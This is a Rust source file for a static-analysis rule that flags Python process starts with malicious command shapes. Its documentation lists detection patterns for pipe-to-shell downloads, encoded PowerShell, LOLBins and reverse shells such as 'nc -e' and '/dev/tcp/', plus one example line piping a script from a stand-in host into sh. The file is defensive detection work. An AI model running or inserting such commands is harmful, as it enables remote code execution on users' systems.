//! PY003 suspicious-shell-command.

use super::super::patterns::{SHELL_COMMANDS, matches};
use crate::context::{Cx, by_context};
use assay_core::{Capability, Finding, Severity};
use assay_lang::EventKind;

declare_rule! {
    /// ## What it does
    /// Flags process starts (`subprocess`, `os.system`, `os.popen`, `pty.spawn`, …) whose
    /// command — folded from literals, variables, `chr()` joins and decoded strings — has a
    /// known-malicious shape: `curl … | sh`, download-then-`chmod +x`, encoded or hidden
    /// PowerShell (`-enc`, `IEX`, `DownloadString`, `-w hidden`), LOLBins (`mshta`,
    /// `certutil -urlcache`, `bitsadmin /transfer`, `rundll32`, `regsvr32 /s`), reverse
    /// shells (`nc -e`, `/dev/tcp/`), hidden starts and executables in temp folders.
    ///
    /// ## Why it matters
    /// These commands fetch and run a second stage or open a shell to an attacker; build
    /// steps of real packages call compilers and `git`, not these.
    ///
    /// ## Example
    /// ```python
    /// import os
    /// os.system("curl -s https://example.invalid/x.sh | sh")
    /// ```
    ///
    /// ## False positives
    /// Developer tooling that documents install one-liners keeps them in strings, not in a
    /// process call; such strings are not flagged. Test suites of shell tools may start
    /// such commands at runtime (severity high, not critical).
    ///
    /// ## References
    /// - CWE-78: OS Command Injection (here: deliberate)
    /// - MITRE ATT&CK T1059 (Command and Scripting Interpreter), T1218 (System Binary Proxy Execution)
    pub static META = {
        code: "PY003",
        name: "suspicious-shell-command",
        family: Py,
        summary: "Starts a process whose command line has a known-malicious shape",
        severity: Critical,
        confidence: High,
        targets: [Python, Pth],
        cwe: Some("CWE-78"),
        attack: Some("T1059"),
    }
}

/// Check every process start.
pub fn check(cx: &Cx, out: &mut Vec<Finding>) {
    for f in &cx.python {
        for e in f
            .analysis
            .events
            .iter()
            .filter(|e| e.kind == EventKind::ProcessSpawn)
        {
            let cmd = e.arg.clone().unwrap_or_else(|| e.snippet.clone());
            let hits = matches(&SHELL_COMMANDS, &cmd);
            if hits.is_empty() {
                continue;
            }
            let test = f.is_test_or_doc();
            let sev = if test {
                Severity::Medium
            } else {
                by_context(
                    e.context,
                    Severity::Critical,
                    Severity::Critical,
                    Severity::High,
                )
            };
            let mut x = cx.event_finding(&META, f, e, sev, format!("{}: {}", e.api, cmd));
            x.capabilities = vec![Capability::Process];
            out.push(x);
        }
        // Reverse shell: standard descriptors redirected in a file that opens sockets.
        let socket = f
            .analysis
            .events
            .iter()
            .any(|e| e.kind == EventKind::Network || e.api.starts_with("socket."));
        if let Some(e) = f
            .analysis
            .events
            .iter()
            .find(|e| e.kind == EventKind::FdRedirect)
            .filter(|_| socket)
        {
            let sev = if f.is_test_or_doc() {
                Severity::Medium
            } else {
                by_context(
                    e.context,
                    Severity::Critical,
                    Severity::Critical,
                    Severity::High,
                )
            };
            let mut x = cx.event_finding(
                &META,
                f,
                e,
                sev,
                format!(
                    "reverse shell: descriptors redirected to a socket: {}",
                    e.snippet
                ),
            );
            x.capabilities = vec![Capability::Process, Capability::Network];
            out.push(x);
        }
    }
}
